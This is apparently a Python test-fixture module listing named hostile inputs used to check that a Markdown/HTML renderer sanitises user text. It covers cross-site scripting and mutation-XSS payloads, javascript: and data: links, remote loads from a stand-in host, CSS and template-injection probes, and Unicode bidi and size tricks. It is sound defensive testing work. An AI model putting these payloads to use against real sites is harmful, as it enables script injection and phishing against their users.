"""Texts made to harm whoever reads them. Each has a name and must be shown harmless: no script runs, nothing is
fetched, nothing leaves its pane, and the page around it stays as it was.

`CASES` is the corpus, `REFUSED` what is turned away before it is stored. Used by the tests of the server and of the
browser alike, so that a case added here is tried in both.
"""

from __future__ import annotations

# What the cases run if they can. A browser's page has no such thing unless one of them succeeded.
RUN = "window.__pwned=1"
# Where they lead to and fetch from: nobody's, reserved by RFC 2606.
ELSEWHERE = "http://hostile.example"

_SCRIPTS = {
    "a script": f"<script>{RUN}</script>",
    "a script in capitals": f"<SCRIPT>{RUN}</SCRIPT>",
    "a script from elsewhere": f"<script src={ELSEWHERE}/x.js></script>",
    "a script that ends a script": f"</script><script>{RUN}</script>",
    "a script in a script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "a script with a slash": f"<script/x>{RUN}</script/x>",
    "a script that never ends": f"<script>{RUN}",
    "a module": f'<script type="module">{RUN}</script>',
    "a module that is preloaded": f'<link rel="modulepreload" href="{ELSEWHERE}/m.js">',
    "an image that fails": f'<img src=x onerror="{RUN}">',
    "an image without quotes": f"<img src=x onerror={RUN}>",
    "an image with slashes for spaces": f"<img/src=x/onerror={RUN}>",
    "an image with a backtick": f"<img src=`x` onerror={RUN}>",
    "an image with a new line in the name": f"<img src=x on\nerror={RUN}>",
    "an image that ends a comment": f"<!--><img src=x onerror={RUN}>-->",
    "a body that loads": f"<body onload={RUN}>",
    "a field with the focus": f"<input autofocus onfocus={RUN}>",
    "details that toggle": f"<details open ontoggle={RUN}>x</details>",
    "a video that fails": f"<video><source onerror={RUN}></video>",
    "a marquee": f"<marquee onstart={RUN}>x</marquee>",
    "an animation that ends": f"<b style=animation-name:x onanimationend={RUN}>x</b>",
    "a pointer over it": f'<div onpointerover="{RUN}" style="position:fixed;inset:0">x</div>',
    "an element of its own": f"<x-y onclick={RUN} tabindex=1 id=x>x</x-y>",
    "a popover": f"<button popovertarget=p>x</button><div popover id=p onbeforetoggle={RUN}>x</div>",
    "a button that leads elsewhere": f'<form><button formaction="javascript:{RUN}">x</button></form>',
    "an iframe with a document": f'<iframe srcdoc="<script>parent.{RUN[7:]}</script>"></iframe>',
    "an iframe from elsewhere": f"<iframe src={ELSEWHERE}></iframe>",
    "an object": f"<object data=javascript:{RUN}></object><embed src=javascript:{RUN}>",
    "an applet": f"<applet code=x.class codebase={ELSEWHERE}></applet>",
    "a base": f"<base href={ELSEWHERE}/>",
    "a refresh": f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}">',
    "a policy": '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "a shadow root": f'<div><template shadowrootmode="open"><script>{RUN}</script></template></div>',
}

_MUTATIONS = {
    "a title in MathML": f"<math><mtext><title><img src=x onerror={RUN}></title></mtext></math>",
    "a style in MathML": (
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">'
    ),
    "a noscript attribute": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "a textarea attribute": f'<textarea><p title="</textarea><img src=x onerror={RUN}>">',
    "a select that is left": f"<select><style></select><img src=x onerror={RUN}></style>",
    "a form in a form": f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    "an SVG with a style": f'<svg><style><a title="</style><img src=x onerror={RUN}>">',
    "a foreign object": f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe></foreignObject></svg>",
    "an SVG that loads": f"<svg onload={RUN}></svg>",
    "an SVG animation": f'<svg><a><animate attributeName=href values="javascript:{RUN}"/><text>x</text></a></svg>',
    "an SVG set": f"<svg><set attributeName=onmouseover to={RUN}></svg>",
    "an SVG use": f'<svg><use href="data:image/svg+xml,<svg onload={RUN}>#x"/></svg>',
    "an SVG script": f"<svg><script href={ELSEWHERE}/x.js /></svg>",
    "CDATA": f"<svg><![CDATA[</svg><img src=x onerror={RUN}>]]>",
    "a processing instruction": f"<?xml version=1.0?><?php echo 1 ?><img src=x onerror={RUN}>",
    "a doctype": f'<!DOCTYPE html [<!ENTITY x "<script>{RUN}</script>">]>&x;',
    "a conditional comment": f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    "MathML with a link": f'<math><maction actiontype="statusline" xlink:href="javascript:{RUN}">x</maction></math>',
    "MathML notes": f'<math><annotation-xml encoding="text/html"><img src=x onerror={RUN}></annotation-xml></math>',
    "plaintext": f"<plaintext><img src=x onerror={RUN}>",
    "an xmp": f"<xmp><img src=x onerror={RUN}></xmp>",
}

_LINKS = {
    "javascript": f"[x](javascript:{RUN})",
    "javascript in mixed case": f"[x](JaVaScRiPt:{RUN})",
    "javascript in angle brackets": f"<javascript:{RUN}>",
    "javascript behind a tab": f"[x](java\tscript:{RUN})",
    "javascript behind an entity": f"[x](java&#115;cript&colon;{RUN})",
    "javascript behind entities without ends": f"[x](&#0000106avascript:{RUN})",
    "javascript behind a control character": f"[x](<\x01javascript:{RUN}>)",
    "javascript behind a new line": f"[x](<java&#10;script:{RUN}>)",
    "javascript in a reference": f"[x][y]\n\n[y]: javascript:{RUN}",
    "javascript in an image": f"![x](javascript:{RUN})",
    "javascript percent-encoded": f"[x](javascript%3A{RUN})",
    "vbscript": "[x](vbscript:msgbox(1))",
    "a data address": "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
    "a data image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3B3bmVkPTEiLz4=)",
    "a blob and a file": "[x](blob:http://hostile.example/1) [y](file:///etc/passwd)",
    "a title that breaks out": f"[x](https://a.example '\" onmouseover=\"{RUN}')",
    "an address that breaks out": f'[x](https://a.example/"onmouseover="{RUN})',
    "a link into this site": "[x](/accounts/logout/) [y](../../admin/) [z](?next=1) [w](#answer)",
    "a link without a scheme": "[x](//hostile.example/x)",
    "a link with backslashes": r"[x](https:\\hostile.example) [y](\\hostile.example)",
    "a name before the host": "[x](https://switchyard.example@hostile.example/)",
    "an address that is not what it says": f"[https://switchyard.example/login]({ELSEWHERE}/login)",
    "letters that look alike": "[paypal.com](https://pаypal.example/) and аpple.example, ｇｏｏｇｌｅ.example",
    "a host in punycode": "<https://xn--80ak6aa92e.example/>",
    "an image from elsewhere": f"![x]({ELSEWHERE}/pixel.png)",
    "an image in a link": f"[![x]({ELSEWHERE}/a.png)]({ELSEWHERE}/b)",
    "an image of many sizes": f"<img srcset='{ELSEWHERE}/1x.png 1x, {ELSEWHERE}/2x.png 2x'>",
    "a picture and a poster": f"<picture><source srcset={ELSEWHERE}/s></picture><video poster={ELSEWHERE}/p></video>",
    "a prefetch": f"<link rel=prefetch href={ELSEWHERE}/p><link rel=stylesheet href={ELSEWHERE}/s.css>",
    "a ping": f"<a href=https://a.example ping={ELSEWHERE}/ping>x</a>",
}

_STYLES = {
    "a style": "<style>*{display:none}body{background:red}</style>",
    "an import": f"<style>@import url({ELSEWHERE}/x.css);</style>",
    "an attribute with a picture": f'<p style="background:url({ELSEWHERE}/x.png)">x</p>',
    "an attribute that covers the page": '<div style="position:fixed;inset:0;z-index:99;background:#fff">Log in</div>',
    "a class of ours": '<div class="toast" id="toast"><b class="by" data-role="user">System</b></div>',
    "a name of ours": "<form id=stage name=Seat><input name=csrfmiddlewaretoken value=x></form>",
    "names that shadow": "<img name=getElementById><form name=body><input name=children></form>",
    "htmx attributes": f'<div hx-get="{ELSEWHERE}" hx-trigger="load" hx-on::load="{RUN}" data-hx-post="/theme">x</div>',
    "template braces": "{{ 7*7 }} {% debug %} {{ request.user.password }} ${7*7} <%= 7*7 %> #{7*7}",
    "a language that breaks out": f'```"><img src=x onerror={RUN}>\nx\n```',
    "a language with a class": "```x hidden onclick=1 style=color:red\ny\n```",
    "a table that aligns by style": "| a |\n|:-:|\n| <b style=x>1</b> |",
}

_FORMULAS = {
    "a formula with a link": rf"$\href{{javascript:{RUN}}}{{x}}$",
    "a formula with a picture": rf"$\includegraphics{{{ELSEWHERE}/x.png}}$",
    "a formula with a style": r"$\style{position:fixed;inset:0}{x}\class{toast}{y}\cssId{stage}{z}$",
    "a formula with HTML": rf"$\text{{<img src=x onerror={RUN}>}}$",
    "a formula with an entity": rf"$\text{{&lt;script&gt;{RUN}&lt;/script&gt;}}$",
    "a formula that defines itself": r"$\def\x{\x\x}\x$ $\newcommand{\y}{\y}\y$",
    "a formula that is a giant": r"$\rule{100000em}{100000em}$ $\hspace{99999em}$ $\kern99999em x$ $\Huge\Huge x$",
    "a formula that is broken": r"$\frac{1$ $$\begin{matrix}\left($$ \[\sqrt[\]",
    "a formula that is deep": "$" + "{" * 900 + "x" + "}" * 900 + "$",
    "a formula of fractions": "$" + r"\frac{1}{" * 150 + "x" + "}" * 150 + "$",
}

_LETTERS = {
    "an override": "The file is called \u202egpj.exe\u202c today.",
    "an override without an end": "Before \u202eafter, and everything behind it.",
    "an override in a link": "[safe\u202eelpmaxe.elitsoh](https://a.example/\u202egpj.exe)",
    "an override in code": "```python\nif level != 'user\u202e \u2066// admin only\u2069 \u2066':\n    pass\n```",
    "an override in a language": "```py\u202eabc\nx\n```",
    "an override in a table": "| a\u202eb | c |\n|---|---|\n| \u2067d | e\u202d |",
    "embeddings without an end": "\u202a\u202b\u202a\u202b\u2066\u2067\u2068 text",
    "ends without a beginning": "\u202c\u202c\u2069\u2069 text \u2069",
    "a thousand isolates": "\u2067" * 1000 + "text" + "\u2069" * 1000,
    "zero-width spaces": "pass\u200bword " + "\u200b" * 500 + "end",
    "joiners between Latin letters": "ad\u200dmin a\u200cdmin",
    "a text in tags": "Hello" + "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all rules") + ".",
    "a text in variants": "x" + "".join(chr(0xFE00 + number % 16) for number in range(64)),
    "soft hyphens and word joiners": "un\u00adsafe\u2060text\ufeff",
    "Hangul fillers": "\u3164\u115f\u1160\uffa0 empty",
    "control characters": "a\x01b\x07c\x08d\x0be\x0cf\x1bg\x7fh\x85i",
    "line and paragraph separators": "one\u2028two\u2029three",
    "interlinear annotation": "\ufff9base\ufffaruby\ufffb \ufffc \ufffd",
    "noncharacters": "\ufffe \uffff \U0001fffe \U0010ffff",
    "a tower of marks": "Z" + "\u0335\u0336\u030d\u0353\u0489" * 200 + "algo",
    "marks without a letter": "\u0301" * 2000,
    "a letter as wide as a line": "\ufdfd\U0001242b\u2e3b" * 40,
    "private characters": "\ue000\uf8ff\U000f0000",
    "emoji of many parts": "👩🏽‍🚀👨‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿" * 200,
    "both directions": "abc אבג def ابت 123 گچپ (x) [y] {z}",
}

_SHAPES = {
    "a line of 200,000 characters": "word " * 40_000,
    "a word of 100,000 characters": "W" * 100_000,
    "a word in a heading": "# " + "W" * 5_000,
    "a word in a table": "| " + "W" * 3_000 + " | b |\n|---|---|\n| 1 | 2 |",
    "a table of 300 columns": "|" + "a|" * 300 + "\n|" + "-|" * 300 + "\n|" + "1|" * 300,
    "a table whose rows do not fit": "| a | b |\n|---|---|\n| 1 |\n| 1 | 2 | 3 | 4 |\n||||||\n|",
    "a megabyte": "All work and no play. " * 47_700,
    "5,000 lines of code": "```python\n" + "x = 1\n" * 5_000 + "```",
    "a line of code of 20,000 characters": "```\n" + "y" * 20_000 + "\n```",
    "10,000 line breaks": "a" + "\n" * 10_000 + "b",
    "quotes 500 deep": "> " * 500 + "end",
    "lists 300 deep": "\n".join("  " * depth + "- x" for depth in range(300)),
    "stars that never close": "*a **b " * 2_000,
    "brackets that never close": "[" * 3_000 + "![" * 500,
    "a fence that never closes": "````\nx\n```\n<b>",
    "backticks of every length": " ".join("`" * number for number in range(1, 200)),
    "references in a ring": "[a]: [b]\n[b]: [a]\n\n[a][b] [b][a]",
    "tags that never close": "<b><i><table><tr><td><div>" * 200,
    "tags that close what is not theirs": "</div></section></article></main></body></html>" * 50,
    "an entity that is huge": "&#99999999999; &#xD800; &#0; &lt;script&gt; &amp;lt; &AMP;&NoSuch;",
    "nothing but spaces": " \t \n \u00a0 \u3000",
    "nothing": "​",
}

CASES: dict[str, str] = {
    f"{kind}: {name}": text
    for kind, group in {
        "script": _SCRIPTS,
        "mutation": _MUTATIONS,
        "link": _LINKS,
        "style": _STYLES,
        "formula": _FORMULAS,
        "letters": _LETTERS,
        "shape": _SHAPES,
    }.items()
    for name, text in group.items()
}

# Turned away with the row and the field named: PostgreSQL cannot hold it.
REFUSED: dict[str, str] = {
    "a lone surrogate": '"\\ud800"',
    "a lone low surrogate": '"a\\udc00b"',
    "NUL": '"a\\u0000b"',
}
